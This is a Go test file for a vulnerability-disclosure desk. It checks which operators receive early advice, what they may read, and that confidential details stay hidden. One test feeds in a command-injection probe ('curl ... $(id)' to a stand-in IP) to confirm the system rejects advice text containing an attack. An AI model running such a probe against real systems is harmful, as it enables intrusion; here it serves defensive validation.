package desk_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"nakodo/internal/cvd"
	"nakodo/internal/desk"
	"nakodo/internal/fault"
	"nakodo/internal/party"
	"nakodo/internal/product"
	"nakodo/internal/store"
	"nakodo/internal/store/storetest"
	"nakodo/internal/words"
)

// operator puts an operator with a contact into the registry; signed is when its
// agreement on early provision ends, zero for none.
func (o *office) operator(name, domain string, until time.Time, products ...string) party.Actor {
	o.t.Helper()
	org := party.Organisation{Kinds: []party.OrgKind{party.KindOperator}, Names: []party.Name{{Text: name, Kind: party.Official}}, Tier: party.General, Sectors: []string{"jp/water"}}
	for _, p := range products {
		org.Products = append(org.Products, party.Product{ID: p, Name: p})
	}
	id, err := o.SaveOrganisation(o.t.Context(), o.ann, org)
	o.must(err)
	person, err := o.SaveContact(o.t.Context(), o.ann, party.Contact{Org: id, Name: name + " desk", Mail: "soc@" + domain, Lang: "en", Duty: party.OnDuty})
	o.must(err)
	if !until.IsZero() {
		o.must(o.SaveAgreement(o.t.Context(), o.ann, party.Agreement{Org: id, Scope: party.ScopeProvision, Edition: "2026-1", Signed: o.clock.Now().AddDate(-1, 0, 0), Until: until}))
	}
	return party.OperatorActor(id, person)
}

// remedied brings a case to where Acme's remedy is known.
func (o *office) remedied() (cvd.CaseID, cvd.ParticipantID) {
	o.t.Helper()
	id, _ := o.openCase()
	o.sign(id, o.acme)
	me := cvd.OrgParticipant(o.acme.Org)
	o.act(o.acme, id, cvd.StateStatus{Who: me, Vuln: "v1", Product: &product.Product{Name: "Gateway NINE"}, Status: product.Affected, Note: "SECRET-NOTE"})
	page, err := o.Case(o.t.Context(), o.ann, id)
	o.must(err)
	o.act(o.acme, id, cvd.OfferRemedy{Who: me, Remedy: product.Remedy{Kind: product.Fix, Text: words.Text{EN: "Update to 4.2."}, Products: []string{page.View.Products[0].ID}}})
	return id, me
}

var ringText = cvd.RingText{Reason: "SECRET-WHY", Impact: "water supply", Sectors: []string{"jp/water"}, Advice: words.Text{EN: "Shut port 502 at the border."}}

func TestEarlyProvision_WhoIsToldAndWhoReads(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store, clock *storetest.Clock) {
		o := newOffice(t, s, clock)
		ctx := t.Context()
		id, acme := o.remedied()
		later := clock.Now().AddDate(1, 0, 0)
		water := o.operator("Minato Water", "minato.test", later)
		rail := o.operator("Kita Rail", "kita.test", later)
		const waterMail, railMail = "soc@minato.test", "soc@kita.test"

		o.wants(acmeMail, "provision_consent", func() { o.act(o.ann, id, cvd.ProposeRing{RingText: ringText}) })
		o.wants(annMail, "", func() {
			o.refused(fault.NotNow, o.OpenRing(ctx, o.ann, id, []party.OrgID{water.Org}))
		})
		o.wants(annMail, "vendor_answered", func() { o.act(o.acme, id, cvd.ConsentRing{Who: acme, Yes: true, Round: 1}) })
		o.refused(fault.NotFound, o.OpenRing(ctx, o.acme, id, []party.OrgID{water.Org}))
		o.wants(waterMail, "operator_invitation", func() {
			o.wants(railMail, "operator_invitation", func() {
				o.wants(acmeMail, "provision_opened", func() {
					o.wants(fayMail, "early_provision", func() {
						o.wants(zetaMail, "", func() { o.must(o.OpenRing(ctx, o.ann, id, []party.OrgID{water.Org, rail.Org})) })
					})
				})
			})
		})
		if _, err := o.ReadProvision(ctx, water, id, desk.ReadPage); fault.KindOf(err) != fault.NotNow {
			t.Errorf("before the duties are accepted: %v", err)
		}
		o.wants(annMail, "operator_answered", func() {
			o.act(water, id, cvd.AcceptDuties{Who: cvd.OrgParticipant(water.Org), Edition: cvd.DutiesEdition})
		})
		for _, how := range []string{desk.ReadPage, desk.ReadCopy} {
			r, err := o.ReadProvision(ctx, water, id, how)
			o.must(err)
			if r.Org != "Minato Water" || r.Person != "Minato Water desk" || r.Vendors[string(o.acme.Org)] != "Acme Controls" || strings.Contains(fmt.Sprintf("%+v", r), "SECRET") {
				t.Errorf("the read: %+v", r)
			}
		}
		for _, by := range []party.Actor{o.acme, rail, o.ann} {
			if _, err := o.ReadProvision(ctx, by, id, desk.ReadPage); err == nil {
				t.Errorf("%s reads what operators read", by.Role)
			}
		}
		page, err := o.Ring(ctx, o.ann, id)
		o.must(err)
		if len(page.Recipients) != 2 || len(page.Recipients[0].Reads) != 2 || page.Recipients[0].Reads[0].How != desk.ReadCopy ||
			page.Recipients[0].Reads[1].Mark != page.Provision.Mark() || len(page.Recipients[1].Reads) != 0 {
			t.Errorf("the reads that officers see: %+v", page.Recipients)
		}
		_, err = o.Ring(ctx, o.acme, id)
		o.refused(fault.NotFound, err)

		o.wants(waterMail, "advance_advice", func() {
			o.wants(railMail, "", func() { o.act(o.ann, id, cvd.PlanPublication{At: clock.Now().AddDate(0, 0, 40)}) })
		})
		o.wants(waterMail, "", func() { o.act(o.acme, id, cvd.MakeStatement{Who: acme, Text: words.Text{EN: "we fixed it"}}) })
		o.operatorIsShutOut(id, water)
		o.wants(waterMail, "provision_recalled", func() {
			o.wants(railMail, "", func() { o.act(o.ann, id, cvd.RecallRing{Reason: "the fix is wrong"}) })
		})
		if _, err := o.ReadProvision(ctx, water, id, desk.ReadPage); fault.KindOf(err) != fault.NotNow {
			t.Errorf("after the recall: %v", err)
		}
		clock.Move(4 * 24 * time.Hour)
		o.wants(waterMail, "reminder", func() { o.wants(railMail, "", o.run) })
		for _, l := range append(o.lettersTo(waterMail), o.lettersTo(railMail)...) {
			if args := string(l.Args); strings.Contains(args, "SECRET") || strings.Contains(args, `"details":[{`) || strings.Contains(args, "502") {
				t.Errorf("%s carries more than a link: %s", l.Template, args)
			}
		}
		o.sound()
	})
}

// operatorIsShutOut: nothing of coordination opens to an operator that reads.
func (o *office) operatorIsShutOut(id cvd.CaseID, by party.Actor) {
	o.t.Helper()
	ctx := o.t.Context()
	page, err := o.Case(ctx, by, id)
	o.must(err)
	if s := fmt.Sprintf("%+v", page); strings.Contains(s, "SECRET") || strings.Contains(s, string(o.acme.Org)) || strings.Contains(s, "502") || len(page.Reports) > 0 {
		o.t.Errorf("the case as an operator gets it: %s", s)
	}
	rows, err := o.Cases(ctx, by)
	o.must(err)
	if s := fmt.Sprintf("%+v", rows); len(rows) != 1 || strings.Contains(s, "SECRET") || strings.Contains(s, "502") {
		o.t.Errorf("the list as an operator gets it: %s", s)
	}
	_, err = o.StartThread(ctx, o.ann, id, "all", []string{string(cvd.OrgParticipant(by.Org)), string(cvd.OrgParticipant(o.acme.Org))})
	o.refused(fault.NotNow, err)
	_, err = o.StartThread(ctx, by, id, "all", []string{string(cvd.OrgParticipant(o.acme.Org))})
	o.refused(fault.NotFound, err)
	_, err = o.DraftForComment(ctx, by, id)
	o.refused(fault.NotFound, err)
}

// sound holds the store to its own check.
func (o *office) sound() {
	o.t.Helper()
	o.must(o.Fsck(o.t.Context(), func(f store.Finding) { o.t.Errorf("fsck: %s: %s", f.Where, f.What) }, nil))
}

func TestEarlyProvision_WhoReceivesAndWhoDoesNot(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store, clock *storetest.Clock) {
		o := newOffice(t, s, clock)
		ctx := t.Context()
		id, acme := o.remedied()
		later := clock.Now().AddDate(1, 0, 0)
		good := o.operator("Good", "good.test", later, "Gateway nine rev. B")
		orgs := map[string]party.Actor{
			"":             good,
			"no_agreement": o.operator("Unsigned", "unsigned.test", time.Time{}),
			"expired":      o.operator("Expired", "expired.test", clock.Now().Add(-time.Hour)),
			"product":      o.operator("Other", "other.test", later, "Pump"),
			"refused":      o.operator("Refuser", "refuser.test", later),
		}
		bare, err := o.SaveOrganisation(ctx, o.ann, party.Organisation{Kinds: []party.OrgKind{party.KindOperator}, Names: []party.Name{{Text: "Bare"}}, Tier: party.General})
		o.must(err)
		o.must(o.SaveAgreement(ctx, o.ann, party.Agreement{Org: bare, Scope: party.ScopeProvision, Edition: "1", Signed: clock.Now().AddDate(-1, 0, 0)}))
		orgs["no_contact sector"] = party.Actor{Org: bare}
		o.act(o.ann, id, cvd.ProposeRing{RingText: ringText})
		o.act(o.acme, id, cvd.ConsentRing{Who: acme, Yes: true, Round: 1})
		o.must(o.OpenRing(ctx, o.ann, id, []party.OrgID{orgs["refused"].Org}))
		o.act(orgs["refused"], id, cvd.RefuseDuties{Who: cvd.OrgParticipant(orgs["refused"].Org), Reason: "we may not"})
		page, err := o.Ring(ctx, o.ann, id)
		o.must(err)
		if len(page.Candidates) != len(orgs) {
			t.Fatalf("%d candidates, want %d: %+v", len(page.Candidates), len(orgs), page.Candidates)
		}
		for why, by := range orgs {
			i := slices.IndexFunc(page.Candidates, func(k desk.RingCandidate) bool { return k.Org == by.Org })
			k := page.Candidates[i]
			if strings.Join(k.Why, " ") != why || k.Never != (why == "no_agreement" || why == "expired" || why == "no_contact sector") {
				t.Errorf("%s: %v, never %v; want %q", k.Name, k.Why, k.Never, why)
			}
			if err := o.AskOperator(ctx, o.ann, id, by.Org); (err == nil) == k.Never {
				t.Errorf("%s: asked: %v, though the preview says %v", k.Name, err, k.Why)
			}
		}
		o.refused(fault.NotNow, o.AskOperator(ctx, o.ann, id, o.zeta.Org))
		o.refused(fault.NotNow, o.AskOperator(ctx, o.ann, id, o.acme.Org))
		o.refused(fault.NotFound, o.AskOperator(ctx, o.ann, id, "nobody"))

		clock.Move(2 * 365 * 24 * time.Hour)
		o.run()
		if err := o.Act(ctx, good, id, 0, cvd.AcceptDuties{Who: cvd.OrgParticipant(good.Org), Edition: cvd.DutiesEdition}); fault.KindOf(err) != fault.NotNow {
			t.Errorf("its agreement has ended, and it may accept: %v", err)
		}
		o.sound()
	})
}

func TestEarlyProvision_AnAdviceShowsNoAttack(t *testing.T) {
	storetest.Each(t, func(t *testing.T, s *store.Store, clock *storetest.Clock) {
		o := newOffice(t, s, clock)
		id, _ := o.remedied()
		bad := ringText
		bad.Advice.EN = "Check with: curl http://192.0.2.1/cgi?x=$(id)"
		err := o.Act(t.Context(), o.ann, id, 0, cvd.ProposeRing{RingText: bad})
		o.refused(fault.Invalid, err)
		if f := fault.Of(err); f.Problems[0].Field != "advice.en" {
			t.Errorf("the refusal is at %q", f.Problems[0].Field)
		}
	})
}
